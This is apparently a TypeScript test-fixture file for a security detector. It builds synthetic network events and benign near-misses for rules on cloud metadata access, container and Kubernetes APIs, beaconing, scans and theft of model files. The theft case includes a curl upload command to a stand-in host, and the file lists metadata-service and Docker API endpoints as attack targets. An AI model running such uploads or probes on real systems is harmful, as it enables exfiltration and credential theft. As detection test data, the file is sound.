import type { Event } from '../../../agent/contract/event.ts';
import { child, fileAccessed, fileChanged, hostSampled, identity, mxnetCalled, networkTransferred, noon, pathArgument, process, processExecuted } from '../../builders.ts';
import { type Behaviour, loaded, mapped, minute, type NearMiss, to } from './behaviour.ts';

type Connection = ReturnType<typeof to>;
const pod = { id: 'c1', runtime: 'containerd', podUid: 'p1' };
const inPod: Partial<Connection> = { process: process({ container: pod }) };
const late = 30 * minute;
const habit = (address: string, port: number, change: Partial<Connection> = {}): Event => to(address, port, -minute / 2, change);

/** One connection after a load; what comes before lies between the start of the process and the load. */
const one = (rule: string, severity: Behaviour['severity'], connection: Connection, before: readonly Event[] = []): Behaviour => ({
  rule, severity, name: `${connection.direction} ${connection.address} port ${connection.port}, ${(connection.at - noon) / 1_000} s after the load`,
  fact: { address: connection.address, port: connection.port }, events: [mapped(), ...before, loaded(), connection],
});
/** An API that some programs ask by habit. */
const service = (rule: string, severity: Behaviour['severity'], address: string, port: number, change: Partial<Connection> = {}): readonly Behaviour[] => [
  one(rule, severity, to(address, port, 1_000, change)), one(rule, 'low', to(address, port, late, change)),
  one(rule, 'low', to(address, port, 1_000, change), [habit(address, port, change)]), one(rule, 'info', to(address, port, late, change), [habit(address, port, change)]),
];
const resolver = { connection: { resolvers: ['10.0.0.2'] } };
const own = (...resolvers: readonly string[]): Event => hostSampled({ at: noon - 1_500, resolvers });
const asking = (port: number, count: number): readonly Event[] => Array.from({ length: count }, (_, index) => to('10.0.0.2', port, 1_000 + index * 50, { protocol: 'udp' }));

const connections: readonly Behaviour[] = [
  one('connection.first', 'low', to('203.0.113.7', 443)), one('connection.first', 'info', to('203.0.113.7', 443, late)), one('connection.first', 'low', to('127.0.0.1', 9_000)),
  one('connection.private-range', 'low', to('10.1.2.3', 5_432)), one('connection.private-range', 'low', to('fd12::7', 443)), one('connection.private-range', 'info', to('192.168.1.9', 80, late)),
  one('connection.private-range', 'medium', to('172.16.4.4', 22)), one('connection.private-range', 'medium', to('10.1.2.3', 445)),
  ...service('connection.metadata-service', 'high', '169.254.169.254', 80), ...service('connection.metadata-service', 'high', 'fd00:ec2::254', 80),
  ...service('connection.metadata-service', 'high', '169.254.170.2', 80), ...service('connection.metadata-service', 'high', '100.100.100.200', 80),
  ...service('connection.kubernetes-api', 'medium', '10.96.0.1', 443, inPod), ...service('connection.kubernetes-api', 'medium', '192.168.0.5', 6_443), ...service('connection.kubernetes-api', 'medium', '10.0.0.8', 10_250),
  { ...one('connection.kubernetes-api', 'medium', to('10.55.0.1', 443)), config: { connection: { kubernetesApi: ['10.55.0.1'] } } },
  ...service('connection.container-api', 'high', '172.17.0.1', 2_375), ...service('connection.container-api', 'high', '127.0.0.1', 2_376),
  one('connection.foreign-resolver', 'low', to('198.51.100.53', 53)), one('connection.foreign-resolver', 'info', to('198.51.100.53', 853, late)),
  { ...one('connection.foreign-resolver', 'medium', to('198.51.100.53', 53)), config: resolver }, { ...one('connection.foreign-resolver', 'low', to('10.0.0.3', 53)), config: resolver },
  one('connection.foreign-resolver', 'medium', to('198.51.100.53', 853), [own('127.0.0.53', '10.0.0.2')]), one('connection.foreign-resolver', 'low', to('10.0.0.3', 53), [own('10.0.0.2')]),
  one('connection.foreign-resolver', 'low', to('198.51.100.53', 53, 1_000, inPod), [own('10.0.0.2')]),
  one('connection.miner-port', 'medium', to('203.0.113.7', 3_333)), one('connection.miner-port', 'info', to('203.0.113.7', 14_444, late)),
  one('connection.listener', 'low', to('0.0.0.0', 8_080, 1_000, { direction: 'listen' })), one('connection.listener', 'medium', to('0.0.0.0', 8_080, 1_000, { direction: 'listen', process: child() })),
  one('connection.listener', 'info', to('0.0.0.0', 8_080, late, { direction: 'listen' })),
];

/** Connections every so many seconds, each straying by what `stray` says of its number. */
const beat = (address: string, everySeconds: number, count: number, from = 1_000, stray = (_: number) => 0, port = 443): readonly Event[] =>
  Array.from({ length: count }, (_, index) => to(address, port, from + (index * everySeconds + stray(index)) * 1_000));
const wave = (index: number) => [0, 1.5, -1, 0.5, -1.5, 1][index % 6] ?? 0;

const beacons: readonly Behaviour[] = [
  { rule: 'beacon.regular', name: 'every minute to a public address', severity: 'medium', fact: { address: '203.0.113.7' }, events: [mapped(), loaded(), ...beat('203.0.113.7', 60, 6)] },
  { rule: 'beacon.regular', name: 'every minute with a little jitter', severity: 'medium', fact: { address: '203.0.113.7' }, events: [mapped(), loaded(), ...beat('203.0.113.7', 60, 6, 1_000, wave)] },
  { rule: 'beacon.regular', name: 'with one beat missed', severity: 'medium', fact: { address: '203.0.113.7' }, events: [mapped(), loaded(), ...beat('203.0.113.7', 60, 7).filter((_, index) => index !== 3)] },
  { rule: 'beacon.regular', name: 'every minute into a private network', severity: 'low', fact: { address: '10.0.0.0/8' }, events: [mapped(), loaded(), ...beat('10.1.1.1', 60, 6)] },
  { rule: 'beacon.regular', name: 'begun long after the load', severity: 'low', fact: { address: '203.0.113.7' }, events: [mapped(), loaded(), ...beat('203.0.113.7', 60, 6, late)] },
];

const machines = (count: number, after = 1_000, prefix = '10.0.0.'): readonly Event[] => Array.from({ length: count }, (_, index) => to(`${prefix}${index + 1}`, 22, after + index * 100));
const ports = (count: number, after = 1_000, first = 1): readonly Event[] => Array.from({ length: count }, (_, index) => to('10.0.0.9', first + index, after + index * 100));
const scans: readonly Behaviour[] = [
  { rule: 'scan.hosts', name: 'two dozen machines in two seconds', severity: 'medium', fact: { address: '10.0.0.0/8' }, events: [mapped(), loaded(), ...machines(24)] },
  { rule: 'scan.hosts', name: 'the same half an hour later', severity: 'low', fact: { address: '10.0.0.0/8' }, events: [mapped(), loaded(), ...machines(24, late)] },
  { rule: 'scan.ports', name: 'a dozen ports of one machine in a second', severity: 'medium', fact: { address: '10.0.0.9' }, events: [mapped(), loaded(), ...ports(12)] },
  { rule: 'scan.ports', name: 'the same half an hour later', severity: 'low', fact: { address: '10.0.0.9' }, events: [mapped(), loaded(), ...ports(12, late)] },
];

const MiB = 2 ** 20;
const others = ['bert', 'gpt', 'resnet'].map(name => `/srv/other/${name}-0000.params`);
const opened = (path: string, by = process(), after = 2_000): Event => fileAccessed({ collector: 'watch', what: 'model', at: noon + after, place: { path }, file: identity({ size: 10 * MiB }), by });
const sent = (bytes: number, by = process(), after = 5_000): Event => networkTransferred({ at: noon + after, process: by, sentBytes: bytes });
const curl = child({ pid: 6_000, executable: { path: '/usr/bin/curl', file: null }, argv: ['curl', '-T', 'x', 'http://h/'] });
const theft = { rule: 'theft.models-sent', severity: 'high', fact: { executable: '/usr/bin/python3' } } as const;
const thefts: readonly Behaviour[] = [
  { ...theft, name: 'three other models opened, and as much sent', events: [mapped(), loaded(), ...others.map(path => opened(path)), sent(20 * MiB), sent(10 * MiB, process(), 6_000)] },
  { ...theft, name: 'opened by a child, sent by another', fact: { path: '/srv/other/' }, events: [mapped(), loaded(), ...others.map(path => opened(path, child({ executable: { path: '/usr/bin/tar', file: null } }))), processExecuted({ at: noon + 3_000, process: curl }), sent(30 * MiB, curl)] },
];

export const network: readonly Behaviour[] = [...connections, ...beacons, ...scans, ...thefts];

const near = (rule: string, connection: Connection, before: readonly Event[] = [], config?: NearMiss['config']): NearMiss => ({
  rule, name: `${connection.direction} ${connection.address} port ${connection.port}`, events: [mapped(), ...before, loaded(), connection], ...(config ? { config } : {}),
});

export const harmlessNetwork: readonly NearMiss[] = [
  near('connection.first', to('203.0.113.7', 443), [habit('203.0.113.7', 443)]),
  near('connection.private-range', to('172.32.0.1', 443)), near('connection.private-range', to('100.128.0.1', 443)), near('connection.private-range', to('11.0.0.1', 443)),
  near('connection.metadata-service', to('169.254.169.253', 80)), near('connection.metadata-service', to('169.254.169.254', 80, 1_000, { direction: 'listen' })),
  near('connection.kubernetes-api', to('10.96.0.1', 443)), near('connection.kubernetes-api', to('10.96.0.2', 443, 1_000, inPod)), near('connection.kubernetes-api', to('203.0.113.7', 6_443)),
  near('connection.container-api', to('203.0.113.7', 2_375)), near('connection.container-api', to('10.0.0.1', 2_377)),
  near('connection.foreign-resolver', to('127.0.0.53', 53)), near('connection.foreign-resolver', to('10.0.0.2', 53)), near('connection.foreign-resolver', to('10.0.0.2', 53), [], resolver),
  near('connection.foreign-resolver', to('::ffff:10.0.0.2', 53), [], resolver), near('connection.foreign-resolver', to('198.51.100.53', 5_353)),
  near('connection.foreign-resolver', to('198.51.100.53', 53), [own('10.0.0.2', '198.51.100.53')]), near('connection.foreign-resolver', to('10.96.0.10', 53, 1_000, inPod), [own('10.0.0.2')]),
  { rule: 'connection.foreign-resolver', name: 'data carried out in the labels of names, asked for at the host\'s own resolver: no fact tells names', events: [mapped(), own('10.0.0.2'), loaded(), ...asking(53, 200)] },
  near('connection.miner-port', to('203.0.113.7', 3_306)), near('connection.miner-port', to('10.0.0.9', 3_333)),
  near('connection.listener', to('0.0.0.0', 8_080, 1_000, { direction: 'listen' }), [to('0.0.0.0', 8_080, -minute / 2, { direction: 'listen' })]),
  { rule: 'beacon.regular', name: 'five beats', events: [mapped(), loaded(), ...beat('203.0.113.7', 60, 5)] },
  { rule: 'beacon.regular', name: 'requests without a beat', events: [mapped(), loaded(), ...[0, 7, 9, 40, 44, 90, 91, 130, 170, 171, 260].map(second => to('203.0.113.7', 443, 1_000 + second * 1_000))] },
  { rule: 'beacon.regular', name: 'a destination that it asked before the load', events: [mapped(), habit('203.0.113.7', 443), loaded(), ...beat('203.0.113.7', 60, 12)] },
  { rule: 'beacon.regular', name: 'a health check on loopback', events: [mapped(), loaded(), ...beat('127.0.0.1', 10, 12)] },
  { rule: 'beacon.regular', name: 'a beat of ten connections a second', events: [mapped(), loaded(), ...beat('203.0.113.7', 0.1, 30)] },
  { rule: 'beacon.regular', name: 'names asked for every minute', events: [mapped(), loaded(), ...beat('203.0.113.7', 60, 12, 1_000, () => 0, 53)] },
  { rule: 'scan.hosts', name: 'as many machines within an hour', events: [mapped(), loaded(), ...machines(24).map((event, index) => ({ ...event, at: noon + index * 150_000 }))] },
  { rule: 'scan.hosts', name: 'a few machines', events: [mapped(), loaded(), ...machines(23)] },
  { rule: 'scan.hosts', name: 'as many public addresses', events: [mapped(), loaded(), ...machines(40, 1_000, '203.0.113.')] },
  { rule: 'scan.hosts', name: 'a cluster that it knows', events: [mapped(), ...machines(30, -50_000), loaded(), ...machines(30)] },
  { rule: 'scan.ports', name: 'eleven ports', events: [mapped(), loaded(), ...ports(11)] },
  { rule: 'scan.ports', name: 'ports that the kernel chose', events: [mapped(), loaded(), ...ports(30, 1_000, 40_000)] },
  { rule: 'scan.ports', name: 'one port over and over', events: [mapped(), loaded(), ...Array.from({ length: 30 }, (_, index) => to('10.0.0.9', 5_432, 1_000 + index * 100))] },
  { rule: 'theft.models-sent', name: 'three other models opened, little sent', events: [mapped(), loaded(), ...others.map(path => opened(path)), sent(10 * MiB)] },
  { rule: 'theft.models-sent', name: 'two other models opened, as much sent', events: [mapped(), loaded(), ...others.slice(1).map(path => opened(path)), sent(30 * MiB)] },
  { rule: 'theft.models-sent', name: 'three models loaded, and answers sent', events: [mapped(), loaded(), ...others.flatMap((path, index) => [opened(path), mxnetCalled({ at: noon + 2_500 + index, argument: pathArgument({ place: { path } }) })]), sent(300 * MiB)] },
  { rule: 'theft.models-sent', name: 'checkpoints of its own sent away', events: [mapped(), loaded(), ...others.flatMap(path => [fileChanged({ at: noon + 1_000, place: { path }, by: process() }), opened(path)]), sent(300 * MiB)] },
  { rule: 'theft.models-sent', name: 'sent an hour after they were opened', events: [mapped(), loaded(), ...others.map(path => opened(path)), sent(300 * MiB, process(), 60 * minute)] },
  { rule: 'theft.models-sent', name: 'opened by one process, sent by another of no relation', events: [mapped(), loaded(), ...others.map(path => opened(path)), sent(300 * MiB, process({ pid: 9_999 }))] },
];
